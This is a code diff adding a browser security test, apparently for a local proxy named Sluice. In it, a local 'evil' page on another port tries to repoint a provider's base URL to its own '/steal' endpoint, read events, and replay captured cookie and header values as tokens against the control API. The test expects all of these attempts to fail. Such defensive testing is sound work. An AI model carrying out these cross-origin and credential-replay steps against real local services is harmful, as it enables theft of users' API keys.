@@ -6,6 +6,7 @@ import path from 'node:path';
 import Anthropic from '@anthropic-ai/sdk';
 import type { Browser } from 'playwright-core';
 import { launchChromium } from '../e2e/support/browser';
+import { startDashboardApp, type DashboardApp } from '../e2e/support/app';
 import { anthropicFrames } from '../e2e/support/anthropic-stream';
 import { runUsageCommand } from '../../src/main/app/usage-command';
 import { FakeUpstream, type FakeReply } from '../support/fake-upstream';
@@ -132,6 +133,119 @@ describe('a real browser page cannot use Sluice cross-origin', () => {
       expect(upstream.requests).toEqual([]);
       // Whatever Chromium's network layer saw of Sluice's answers was a refusal.
       for (const s of seen) expect(s.status, `${s.method} ${s.url}`).toBe(403);
+    } finally {
+      await ctx.close();
+    }
+  }, 60_000);
+});
+
+describe('a page on another local port that has seen the dashboard cannot use the control API', () => {
+  let browser: Browser;
+  let upstream: FakeUpstream;
+  let sluice: DashboardApp;
+  /** Another local program: its page, and what its server is sent (a cookie for 127.0.0.1 reaches it). */
+  let evil: http.Server;
+  let evilUrl = '';
+  const sentToEvil: { url: string; cookie: string | undefined; headers: http.IncomingHttpHeaders }[] = [];
+
+  beforeAll(async () => {
+    upstream = await new FakeUpstream(() => ({ chunks: anthropicFrames(['hi']) })).start();
+    sluice = await startDashboardApp({
+      providers: [{ id: 'anth', kind: 'anthropic', baseUrl: upstream.url, apiKey: KEY }],
+    });
+    evil = http.createServer((req, res) => {
+      sentToEvil.push({ url: req.url ?? '', cookie: req.headers.cookie, headers: req.headers });
+      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
+      res.end('<!doctype html><html><head><title>evil</title></head><body>hello</body></html>');
+    });
+    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
+    evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
+    browser = await launchChromium();
+  }, 120_000);
+
+  afterAll(async () => {
+    await browser?.close();
+    await sluice?.close();
+    await upstream?.close();
+    if (evil) {
+      evil.closeAllConnections();
+      await new Promise<void>((resolve) => evil.close(() => resolve()));
+    }
+  });
+
+  it('finds no credential in cookies, storage or requests, and every control call it tries is refused', async () => {
+    const ctx = await browser.newContext();
+    try {
+      const tab = await ctx.newPage();
+      // The user opens the dashboard with its link: signed in, pushes flowing.
+      await tab.goto(sluice.dashboardUrl);
+      await tab.locator('header[data-live="open"]').waitFor({ timeout: 10_000 });
+      expect(tab.url()).not.toContain('token=');
+
+      // Then, in the same browser, a page of another local program, on another port.
+      await tab.goto(`${evilUrl}/`);
+      const found = await tab.evaluate(
+        async ({ target, own }) => {
+          const tries: Record<string, string> = {};
+          // Its own server is sent whatever cookies the browser holds for 127.0.0.1 under /_sluice/.
+          await fetch(`${own}/_sluice/api/providers.list`, { credentials: 'include' });
+          await fetch(`${own}/_sluice/`, { credentials: 'include' });
+          const attempt = async (name: string, init: RequestInit, url: string): Promise<void> => {
+            try {
+              const res = await fetch(url, { credentials: 'include', ...init });
+              tries[name] = `${res.type} ${res.status}`;
+            } catch (e) {
+              tries[name] = `rejected ${String(e)}`;
+            }
+          };
+          const save = JSON.stringify({
+            provider: { id: 'anth', kind: 'anthropic', baseUrl: `${own}/steal` },
+          });
+          await attempt(
+            'cors save',
+            { method: 'POST', headers: { 'content-type': 'application/json' }, body: save },
+            `${target}/_sluice/api/providers.save`,
+          );
+          await attempt(
+            'no-cors save',
+            { method: 'POST', mode: 'no-cors', body: save },
+            `${target}/_sluice/api/providers.save`,
+          );
+          await attempt('events', { method: 'GET' }, `${target}/_sluice/api/events`);
+          await attempt('session', { method: 'POST', mode: 'no-cors' }, `${target}/_sluice/api/session`);
+          return { cookies: document.cookie, storage: JSON.stringify({ ...sessionStorage }), tries };
+        },
+        { target: sluice.url, own: evilUrl },
+      );
+      expect(found.cookies).toBe('');
+      expect(found.storage).toBe('{}');
+      // Cross-origin reads fail in the browser; what went out was refused by Sluice (checked below).
+      expect(found.tries['cors save']).toContain('rejected');
+      expect(found.tries.events).toContain('rejected');
+
+      // Whatever the other program's server was sent, it replays from outside the browser.
+      const captured = sentToEvil.flatMap((r) => [
+        ...(r.cookie ?? '').split(';').map((c) => c.slice(c.indexOf('=') + 1).trim()),
+        ...Object.values(r.headers).flatMap((v) => (typeof v === 'string' ? [v] : (v ?? []))),
+      ]);
+      expect(captured.join('\n')).not.toContain(sluice.app.token);
+      const hex = captured.filter((v) => /^[0-9a-f]{64}$/.test(v));
+      for (const value of [...hex, 'x'])
+        for (const headers of [
+          { authorization: `Bearer ${value}` },
+          { cookie: `sluice_token_${sluice.app.port}=${value}` },
+          { 'x-sluice-session': value, origin: sluice.url },
+        ]) {
+          const res = await fetch(`${sluice.url}/_sluice/api/providers.list`, {
+            method: 'POST',
+            headers: { 'content-type': 'application/json', ...headers },
+            body: '{}',
+          });
+          expect(res.status, JSON.stringify(headers)).toBe(401);
+        }
+      // Nothing moved: the provider still points where it did, with its key.
+      expect(sluice.app.config.providers()[0]).toMatchObject({ baseUrl: upstream.url, apiKey: KEY });
+      expect(sentToEvil.map((r) => r.url)).not.toContain('/steal/v1/models');
     } finally {
       await ctx.close();
     }
